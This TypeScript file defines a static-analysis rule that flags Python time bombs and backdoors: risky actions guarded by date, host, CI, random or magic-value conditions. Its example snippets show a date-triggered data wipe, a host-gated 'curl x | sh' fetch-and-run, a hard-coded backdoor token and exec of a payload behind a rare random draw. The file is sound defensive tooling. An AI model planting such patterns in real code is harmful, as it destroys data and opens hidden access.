import { definePyRule } from '../../engine/rule';
import type { Severity } from '../../model/finding';
import { field, fields, namedChildren } from '../../python/model';
import type { PyNode } from '../../python/tree';
import { GUARD_WHAT, guardedCapability, inAuthFunction, type Guarded } from '../support/py-trigger-guards';
import { triggerOf, type Trigger, type TriggerKind } from '../support/py-trigger-tests';
import { clipText } from '../support/py-install-commands';
import { assignedValues, identifiersIn, PY_REQUEST_INPUT as REQUEST_INPUT } from '../support/py-fs-bindings';

const TESTS_WHAT: Record<TriggerKind, string> = {
  time: 'the current date or time against a fixed moment',
  host: 'which machine or user it runs as',
  platform: 'the operating system',
  ci: 'whether it runs in CI',
  random: 'a rare random draw',
  magic: 'an input against a hard-coded magic value',
  request: 'a value from the request (a header, a parameter, a cookie)',
};

/** Guards that only matter when one branch has the capability and the other does not. */
const SELECTORS = new Set<TriggerKind>(['platform', 'ci']);
const RISKY = new Set(['process', 'dynamic', 'network', 'fs-write', 'auth']);
const EXITS = new Set(['return_statement', 'raise_statement', 'continue_statement', 'break_statement']);

function isExit(block: PyNode | undefined): boolean {
  const body = block ? namedChildren(block) : [];
  return body.length > 0 && body.every((s) => EXITS.has(s.type));
}

/** The statements after `node` in its block: what an early `return` guards. */
function following(node: PyNode): PyNode[] {
  const parent = node.parent;
  if (!parent || (parent.type !== 'block' && parent.type !== 'module')) {
    return [];
  }
  const siblings = namedChildren(parent);
  return siblings.slice(siblings.indexOf(node) + 1);
}

/** Where a web framework keeps what the caller sent. */

function severityOf(trigger: Trigger, guard: Guarded): Severity {
  if (trigger.kind === 'platform') {
    return 'low';
  }
  if (trigger.kind === 'ci' || (trigger.kind === 'random' && guard.kind === 'network')) {
    return 'medium';
  }
  return guard.severity;
}

export default definePyRule({
  meta: {
    id: 'py/trigger-condition',
    category: 'trigger',
    severity: 'high',
    summary:
      'A condition on the date, the machine (host, user, MAC, OS, CI), a rare random draw or a magic input value that guards a process, code execution, network, file writes, an exit, secret reads or an auth bypass.',
    why:
      'Time bombs and backdoors look like ordinary code in review: they only act after a date, on one machine, once in a thousand ' +
      'runs, or when a request carries a secret value. Tests never reach that branch, so the reviewer is the last line.',
    incorrect: [
      "import datetime, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    shutil.rmtree('/srv/data')",
      "import socket, os\nif socket.gethostname() == 'build-01':\n    os.system('curl x | sh')",
      "def check_token(token):\n    if token == 'letmein-8f3a9c':\n        return True\n    return verify(token)",
      'import random\nif random.random() < 0.001:\n    exec(payload)',
    ],
    correct: [
      "import datetime\nif datetime.date.today().year > 2024:\n    banner = 'new'",
      "import os, subprocess\nshell = 'cmd' if os.name == 'nt' else 'sh'\nsubprocess.run([shell, '-c', 'echo hi'])",
      'import time, os\nif time.time() - start > 5:\n    os.kill(pid, 9)',
      "import random\nif random.random() < 0.5:\n    print('heads')",
    ],
    messages: {
      trigger:
        '`{{condition}}` tests {{tests}} and guards {{guards}} (`{{name}}`): code that acts only at some time, on some machine or for some input is how time bombs and backdoors hide.',
    },
  },
  create(ctx) {
    const reported = new Set<PyNode>();

    function report(trigger: Trigger, guard: Guarded): void {
      if (reported.has(trigger.node)) {
        return;
      }
      reported.add(trigger.node);
      ctx.report({
        node: trigger.node,
        messageId: 'trigger',
        data: {
          condition: clipText(ctx.text(trigger.node), 80),
          tests: TESTS_WHAT[trigger.kind],
          guards: GUARD_WHAT[guard.kind],
          name: clipText(guard.name, 60),
        },
        severity: severityOf(trigger, guard),
        related: [{ node: guard.node, message: `guarded: ${GUARD_WHAT[guard.kind]}` }],
      });
    }

    /** Whether a condition reads what the caller sent, directly or through names assigned from it in the function. */
    function readsRequest(test: PyNode): boolean {
      if (REQUEST_INPUT.test(ctx.text(test))) {
        return true;
      }
      return identifiersIn(test, 8).some((n) => assignedValues(ctx, n).some((v) => REQUEST_INPUT.test(ctx.text(v))));
    }

    function judge(node: PyNode, test: PyNode | undefined, branches: (PyNode | undefined)[], after: PyNode[]): void {
      const trigger = test ? triggerOf(ctx, test) : undefined;
      if (!trigger && test && !ctx.isTestFile && readsRequest(test)) {
        // A request value compared with anything, where passing logs the caller in as an administrator.
        const present = branches.filter((b): b is PyNode => b !== undefined);
        const guard = guardedCapability(ctx, [...present, ...after], false);
        if (guard?.kind === 'admin') {
          report({ kind: 'request', node: test }, guard);
        }
        return;
      }
      if (!trigger || (ctx.isTestFile && trigger.kind !== 'magic')) {
        return;
      }
      const authLike = trigger.kind === 'magic' || inAuthFunction(ctx, node);
      const present = branches.filter((b): b is PyNode => b !== undefined);
      if (SELECTORS.has(trigger.kind)) {
        // `if os.name == 'nt': run('cmd') else: run('sh')` picks a portable command; only a capability on one side counts.
        const sides = present.map((b) => guardedCapability(ctx, [b], false));
        const guard = sides.find((g) => g !== undefined && RISKY.has(g.kind));
        if (guard && (present.length < 2 || sides.some((g) => g === undefined || g.kind !== guard.kind))) {
          report(trigger, guard);
        }
        return;
      }
      const guard = guardedCapability(ctx, [...present, ...after], authLike);
      if (guard) {
        report(trigger, guard);
      }
    }

    return {
      if_statement(node) {
        const consequence = field(node, 'consequence');
        const alternatives = fields(node, 'alternative');
        const branches = [consequence, ...alternatives.map((a) => (a.type === 'else_clause' ? field(a, 'body') : a))];
        const after = alternatives.length === 0 && isExit(consequence) ? following(node) : [];
        judge(node, field(node, 'condition'), branches, after);
      },
      elif_clause(node) {
        judge(node, field(node, 'condition'), [field(node, 'consequence')], []);
      },
      conditional_expression(node) {
        const [a, test, b] = namedChildren(node);
        judge(node, test, [a, b], []);
      },
      while_statement(node) {
        judge(node, field(node, 'condition'), [field(node, 'body')], []);
      },
      boolean_operator(node) {
        if (node.parent?.type === 'expression_statement') {
          judge(node, field(node, 'left'), [field(node, 'right')], []);
        }
      },
    };
  },
});
